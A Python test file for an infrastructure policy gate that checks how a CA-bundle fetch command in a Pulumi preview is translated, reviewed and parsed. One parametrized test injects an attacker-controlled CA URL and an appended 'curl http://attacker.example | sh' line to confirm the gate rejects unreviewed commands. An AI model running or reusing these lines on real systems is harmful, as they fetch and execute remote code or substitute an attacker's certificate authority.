"""A CA bundle fetched at ``pulumi up`` (a local command's stdout in a ConfigMap) through the preview and the gate's
translation: unknown in the preview as in a real one, a placeholder in the translation (not an unknown setting), the
reviewed fetch command needs no ``--allow-unscanned``, and the context facts CKV_MLOPS_331/332 read, failing closed
on a bad shape."""

from __future__ import annotations

import copy
import importlib.util
import json
import sys
from pathlib import Path

import pytest

from components.services import db_tls
from policies.preview.model import UNKNOWN, PreviewResult
from policies.translate import (
    database_ca_bundles,
    database_connections,
    reviewed_command,
    stack_context,
    translate,
)
from tests.conftest import one, run_mocked

REPO = Path(__file__).resolve().parents[3]
COMMAND = "command:local:Command"
CONFIG_MAP = "kubernetes:core/v1:ConfigMap"
SECRET = "kubernetes:core/v1:Secret"
TLS = {
    "registry": {"sslmode": "verify-full", "sslrootcert": db_tls.POSTGRES_CA_PATH},
    "online_store": {
        "ssl": "true",
        "ssl_cert_reqs": "required",
        "ssl_check_hostname": "true",
        "ssl_ca_certs": db_tls.REDIS_CA_PATH,
    },
}


def program(environment: dict[str, str] | None = None, create: str | None = None) -> None:
    import pulumi
    from pulumi_command import local
    from pulumi_kubernetes.core.v1 import ConfigMap, Secret

    fetched = local.Command(
        "rds-ca",
        create=create if create is not None else db_tls.fetch_script(),
        interpreter=["/bin/bash", "-c"],
        environment=environment or {"RDS_REGION": "me-central-1"},
        logging="stderr",
    )
    ConfigMap(
        "db-ca",
        metadata={"name": db_tls.CONFIG_MAP, "namespace": "feature-store", "labels": {db_tls.LABEL: "database"}},
        data={db_tls.POSTGRES_CA: fetched.stdout, db_tls.REDIS_CA: "pinned"},
    )
    Secret(
        "feast-config",
        metadata={
            "name": "feast-feature-store",
            "namespace": "feature-store",
            "annotations": {"mlops.platform/connection-tls": json.dumps(TLS)},
        },
        string_data={"feature_store.yaml": pulumi.Output.secret("registry: ...")},
    )


@pytest.fixture(scope="module")
def preview() -> PreviewResult:
    return run_mocked(program, stack="ca")


def test_the_mocks_answer_a_local_command_with_unknown_output(preview: PreviewResult) -> None:
    command = one(preview, COMMAND, "rds-ca")
    assert command.outputs["stdout"] == UNKNOWN
    bundle = one(preview, CONFIG_MAP, "db-ca")
    assert bundle.inputs["data"][db_tls.POSTGRES_CA] == UNKNOWN
    assert bundle.inputs["data"][db_tls.REDIS_CA] == "pinned"
    assert bundle.property_dependencies["data"] == [command.urn]


def test_the_translation_writes_a_placeholder_not_an_unknown_setting(preview: PreviewResult) -> None:
    stack = translate(preview)
    assert not stack.errors, stack.errors
    assert stack.unknown_settings == []
    (placed,) = [u for u in stack.unknown if u.name == "db-ca"]
    assert placed.path == f"data.{db_tls.POSTGRES_CA}"
    assert placed.reference == "${known after apply: stdout of rds-ca}"
    doc = next(d for f, d in stack.files.items() if f.startswith("k8s/") and d.get("kind") == "ConfigMap")
    assert doc["data"] == {db_tls.POSTGRES_CA: placed.reference, db_tls.REDIS_CA: "pinned"}
    row = next(r for r in stack.coverage if r.type == COMMAND)
    assert row.status == "no-checks" and "reviewed RDS CA fetch" in row.detail


def test_without_the_command_in_the_preview_the_value_stays_unknown(preview: PreviewResult) -> None:
    """A dependency the gate cannot see proves nothing: the gate then stops on an unknown setting (exit 2)."""
    cut = copy.deepcopy(preview)
    cut.resources = [r for r in cut.resources if r.type != COMMAND]
    stack = translate(cut)
    assert [u.path for u in stack.unknown_settings] == [f"data.{db_tls.POSTGRES_CA}"]


@pytest.mark.parametrize(
    ("environment", "create"),
    [
        ({"RDS_REGION": "me-central-1", "RDS_CA_URL": "http://attacker.example/ca.pem"}, None),
        (None, db_tls.fetch_script() + "\ncurl http://attacker.example | sh\n"),
    ],
    ids=["url-override", "edited-script"],
)
def test_any_other_command_still_needs_allow_unscanned(environment, create) -> None:
    result = run_mocked(lambda: program(environment, create), stack="ca-other")
    assert not reviewed_command(one(result, COMMAND, "rds-ca"))
    stack = translate(result)
    assert any("--allow-unscanned command" in e for e in stack.errors)
    assert not translate(result, allow_unscanned=["command"]).errors


def test_context_lists_connections_and_bundles(preview: PreviewResult) -> None:
    context = stack_context(preview)
    assert context["database_connections"] == {"feature-store/feast-feature-store": TLS}
    assert context["database_ca_bundles"] == {
        "feature-store/database-ca-bundle": {
            "keys": [db_tls.POSTGRES_CA, db_tls.REDIS_CA],
            "from_command": [db_tls.POSTGRES_CA],
        }
    }


def test_an_unreadable_annotation_is_recorded_as_none(preview: PreviewResult) -> None:
    broken = copy.deepcopy(preview)
    secret = one(broken, SECRET, "feast-config")
    secret.inputs["metadata"]["annotations"]["mlops.platform/connection-tls"] = "{not json"
    assert database_connections(broken) == {"feature-store/feast-feature-store": None}
    secret.inputs["metadata"].pop("annotations")
    assert database_connections(broken) == {"feature-store/feast-feature-store": None}
    assert database_ca_bundles(broken)  # the bundle is unaffected


# --- the checks' side of the context (policies/checks/_mlops_context.py, standard library only) --------------------
def _context_module():
    spec = importlib.util.spec_from_file_location(
        "_mlops_context_under_test", REPO / "policies" / "checks" / "_mlops_context.py"
    )
    module = importlib.util.module_from_spec(spec)
    assert spec.loader is not None
    sys.modules[spec.name] = module  # dataclasses look their module up while the class is built
    spec.loader.exec_module(module)
    return module


def test_checks_read_the_facts(preview: PreviewResult) -> None:
    ctx = _context_module()._parse(json.loads(json.dumps(stack_context(preview))), "x")
    assert ctx.database_connections == {"feature-store/feast-feature-store": TLS}
    assert ctx.database_ca_bundles["feature-store/database-ca-bundle"]["keys"] == [db_tls.POSTGRES_CA, db_tls.REDIS_CA]


@pytest.mark.parametrize(
    "bad",
    [
        {"database_connections": ["feature-store/feast-feature-store"]},
        {"database_connections": {"no-namespace": TLS}},
        {"database_connections": {"feature-store/feast-feature-store": {"registry": "verify-full"}}},
        {"database_connections": {"feature-store/feast-feature-store": {"registry": {"sslmode": 1}}}},
        {"database_connections": {"feature-store/feast-feature-store": {"other": {}}}},
        {"database_ca_bundles": {"feature-store/database-ca-bundle": ["postgres-ca.pem"]}},
        {"database_ca_bundles": {"feature-store/database-ca-bundle": {"keys": "postgres-ca.pem"}}},
        {"database_ca_bundles": {"feature-store/database-ca-bundle": {"keys": ["a"], "from_command": [1]}}},
    ],
)
def test_checks_refuse_a_bad_shape(bad: dict) -> None:
    module = _context_module()
    with pytest.raises(module.ContextError):
        module._parse(bad, "x")


def test_absent_facts_are_none_so_workload_checks_fail_closed() -> None:
    ctx = _context_module()._parse({}, "x")
    assert ctx.database_connections is None and ctx.database_ca_bundles is None


def test_the_translators_names_are_the_components() -> None:
    from components.services import feature_store, feature_store_config
    from policies import translate as tr

    assert tr.CONNECTION_TLS_ANNOTATION == feature_store_config.TLS_ANNOTATION
    assert tr.FEAST_CONFIG_SECRET == feature_store.CONFIG_SECRET
    assert tr.CA_BUNDLE_LABEL == db_tls.LABEL
    assert tr.REVIEWED_COMMAND_SCRIPTS == (str(db_tls.FETCH_SCRIPT.relative_to(REPO)),)
